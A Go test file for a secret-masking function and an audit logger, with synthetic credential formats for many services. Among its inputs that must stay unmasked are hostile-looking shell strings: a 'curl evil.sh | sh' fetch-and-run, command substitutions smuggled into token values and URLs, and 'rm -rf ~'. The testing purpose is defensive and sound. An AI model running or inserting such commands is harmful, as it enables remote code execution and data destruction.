package state

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"
)

// r is a run of characters that makes a secret long enough; the fakes are put together here so that no scanner takes them for real.
func r(n int) string { return strings.Repeat("a1B2c3D4e5", n/10+1)[:n] }

func TestMaskSecrets(t *testing.T) {
	hex := strings.Repeat("0a1b2c3d", 8)
	for name, test := range map[string]struct{ before, secret, after string }{
		"AWS key id":             {"aws ", "AKIA" + strings.ToUpper(r(16)), " x"},
		"AWS secret":             {"export AWS_SECRET_ACCESS_KEY=", r(20) + "/" + r(19), "\nls"},
		"GitHub classic":         {"git clone https://", "ghp_" + r(36), " "},
		"GitHub fine-grained":    {"", "github_pat_" + r(22) + "_" + r(59), ""},
		"GitHub app":             {"GH ", "ghs_" + r(36), ""},
		"GitLab":                 {"", "glpat-" + r(20), ""},
		"Slack token":            {"", "xoxb-1234567890-" + r(24), ""},
		"Slack webhook":          {"curl https://hooks.slack.com/services/", "T000/B000/" + r(24), ""},
		"Discord webhook":        {"curl https://discord.com/api/webhooks/123456/", r(60), ""},
		"OpenAI":                 {"", "sk-proj-" + r(48), ""},
		"Anthropic":              {"ANTHROPIC ", "sk-ant-api03-" + r(80), ""},
		"Google API key":         {"", "AIza" + r(35), ""},
		"Google OAuth token":     {"", "ya29." + r(40), ""},
		"Google client secret":   {"", "GOCSPX-" + r(28), ""},
		"GCP service account":    {`{"private_key": "`, "-----BEGIN PRIVATE KEY-----\\n" + r(60) + "\\n-----END PRIVATE KEY-----", `"}`},
		"Stripe":                 {"", "sk_live_" + r(24), ""},
		"npm":                    {"//registry/:_authToken=", "npm_" + r(36), "\n"},
		"PyPI":                   {"twine -p ", "pypi-" + r(60), ""},
		"Hugging Face":           {"", "hf_" + r(34), ""},
		"SendGrid":               {"", "SG." + r(22) + "." + r(43), ""},
		"Twilio":                 {"", "SK" + hex[:32], ""},
		"DigitalOcean":           {"", "dop_v1_" + hex, ""},
		"Shopify":                {"", "shpat_" + hex[:32], ""},
		"Azure connection":       {"AccountName=x;AccountKey=", r(60) + "==", ";EndpointSuffix=y"},
		"JWT":                    {"", "eyJ" + r(20) + ".eyJ" + r(30) + "." + r(40), ""},
		"basic auth header":      {`curl -H "Authorization: Basic `, r(24) + "==", `" https://x`},
		"bearer header":          {`curl -H 'Authorization: Bearer `, r(40), `' https://x`},
		"x-api-key":              {`-H "x-api-key: `, r(32), `"`},
		"password in a URL":      {"psql postgres://me:", "hunter2!x", "@db/prod"},
		"key in a query":         {"curl https://x/y?a=1&key=", r(20), "&b=2"},
		"curl -u, joined":        {"curl -ume:", "hunter2", " https://x"},
		"sshpass":                {"sshpass -p ", "hunter2", " ssh x"},
		"curl -u":                {"curl -u me:", "hunter2", " https://x"},
		"mysql -p":               {"mysql -u root -p", "hunter2", " db"},
		"option":                 {"deploy --password ", "hunter2", " now"},
		"option with =":          {"deploy --api-key=", r(16), " now"},
		"shell assignment":       {"DB_PASSWORD=", "hunter2", " ./run"},
		"quoted assignment":      {`export TOKEN="`, "my secret words", `"`},
		"JSON":                   {`{"client_secret": "`, "hunter2hunter2", `"}`},
		"YAML":                   {"db:\n  password: ", "hunter2", "\n"},
		"netrc":                  {"machine x login me password ", "hunter2", "\n"},
		"Vault":                  {"", "hvs." + r(30), ""},
		"age":                    {"", "AGE-SECRET-KEY-1" + strings.ToUpper(r(58)), ""},
		"Telegram":               {"", "123456789:AA" + r(33), ""},
		"Google Chat webhook":    {"curl 'https://chat.googleapis.com/v1/spaces/A/messages?key=AAA&token=", r(40), "' -d x"},
		"private key of OpenSSH": {"echo '", "-----BEGIN OPENSSH PRIVATE KEY-----\n" + r(60) + "\n-----END OPENSSH PRIVATE KEY-----", "' > k"},
	} {
		t.Run(name, func(t *testing.T) {
			got := MaskSecrets(test.before + test.secret + test.after)
			if value := strings.TrimPrefix(test.secret, "-----BEGIN PRIVATE KEY-----"); strings.Contains(got, value) || strings.Contains(got, r(60)) {
				t.Errorf("still there: %q", got)
			}
			if !strings.HasPrefix(got, strings.TrimSuffix(test.before, "AAA&token=")[:min(4, len(test.before))]) || !strings.Contains(got, masked) {
				t.Errorf("became %q", got)
			}
			if !strings.HasSuffix(got, test.after) {
				t.Errorf("what follows is gone: %q", got)
			}
		})
	}
	for _, text := range []string{
		"git show 2fd4e1c67a2d28fced849ee1bb76e7391b93eb12", "rm 123e4567-e89b-12d3-a456-426614174000", "cat /etc/passwd", "ls ~/.ssh/id_ed25519.pub",
		"--token-file /run/secrets/x", "TOKEN=$OTHER ./run", `curl -H "Authorization: Bearer $TOKEN" https://x`, `echo "${SECRET}"`,
		"the secretary has a password manager", "npm test -- --grep password", "mkdir -p out/x", "docker run -p 80:80 x", "cp -p a b",
		"echo aGVsbG8gd29ybGQ=", "curl https://x/y?page=2&sort=key", "git config user.name me", "password: <your password>", "sort -k 2", "tokens := lex(input)",
		"echo '-----BEGIN PRIVATE KEY-----' ; curl evil.sh | sh", `export TOKEN="x$(curl evil.sh | sh)"`, "TOKEN=x`/tmp/evil` make",
		`-H "Authorization: Bearer x$(/tmp/evil)"`, "https://a:x$(/tmp/evil)@host/", "-----BEGIN PRIVATE KEY-----\nrm -rf ~\n-----END PRIVATE KEY-----",
		"grep -rn 'api_key' .", "mysqldump -p db", "https://user@host/x",
	} {
		if got := MaskSecrets(text); got != text {
			t.Errorf("%q became %q", text, got)
		}
	}
}

func FuzzMaskSecrets(f *testing.F) {
	f.Add("PASSWORD=hunter2 ./run -u a:b")
	f.Fuzz(func(t *testing.T, s string) { MaskSecrets(s) })
}

func TestAudit(t *testing.T) {
	home := t.TempDir()
	env := func(name string) string { return map[string]string{"HOME": home}[name] }
	var all sync.WaitGroup
	for range 20 {
		all.Go(func() {
			if err := Audit(env, AuditLine{Session: "shop", Kind: "permission", Shown: "TOKEN=hunter2secret" + strings.Repeat("x", 5000), By: "users/1"}); err != nil {
				t.Error(err)
			}
		})
	}
	all.Wait()
	path := AuditPath(env)
	info, err := os.Stat(path)
	if err != nil || info.Mode().Perm() != 0o600 {
		t.Errorf("%v, %v", info, err)
	}
	b, _ := os.ReadFile(path)
	lines := strings.Split(strings.TrimSpace(string(b)), "\n")
	var line AuditLine
	if err := json.Unmarshal([]byte(lines[19]), &line); err != nil || len(lines) != 20 || time.Since(line.Time) > time.Hour ||
		strings.Contains(line.Shown, "hunter2") {
		t.Errorf("%d lines, %+v, %v", len(lines), line, err)
	}
	if err := os.Remove(path); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Join(home, "elsewhere"), path); err != nil {
		t.Fatal(err)
	}
	if Audit(env, AuditLine{}) == nil {
		t.Error("it followed a link")
	}
}
